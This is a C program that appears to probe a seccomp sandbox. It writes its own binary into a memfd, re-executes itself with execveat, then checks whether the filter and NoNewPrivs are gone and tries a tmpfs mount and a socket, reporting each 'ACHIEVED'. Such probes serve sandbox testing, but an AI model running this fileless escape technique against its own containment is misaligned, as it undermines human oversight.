#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>


int main(int count, char **words) {
    if (count > 1) {
        char text[8192] = {0};
        int file = open("/proc/self/status", O_RDONLY);
        (void)!read(file, text, sizeof text - 1);
        if (strstr(text, "NoNewPrivs:\t1") == NULL || strstr(text, "Seccomp:\t2") == NULL) puts("ACHIEVED free of the filter");
        if (syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL) == 0) puts("ACHIEVED mount");
        if (socket(AF_INET, SOCK_STREAM, 0) >= 0) puts("ACHIEVED a socket");
        return 0;
    }
    int memory = (int)syscall(SYS_memfd_create, "program", 0), self = open("/proc/self/exe", O_RDONLY);
    if (memory < 0) memory = open("/dev/shm/program", O_CREAT | O_RDWR, 0755);
    char block[65536];
    long got;
    while ((got = read(self, block, sizeof block)) > 0) (void)!write(memory, block, (size_t)got);
    char *arguments[] = {"program", "again", NULL}, *none[] = {NULL};
    fchmod(memory, 0755);
    char path[64];
    sprintf(path, "/proc/self/fd/%d", memory);
    int again = open(path, O_RDONLY | O_CLOEXEC);
    close(memory);
    syscall(SYS_execveat, again, "", arguments, none, AT_EMPTY_PATH);
    return 0;
}
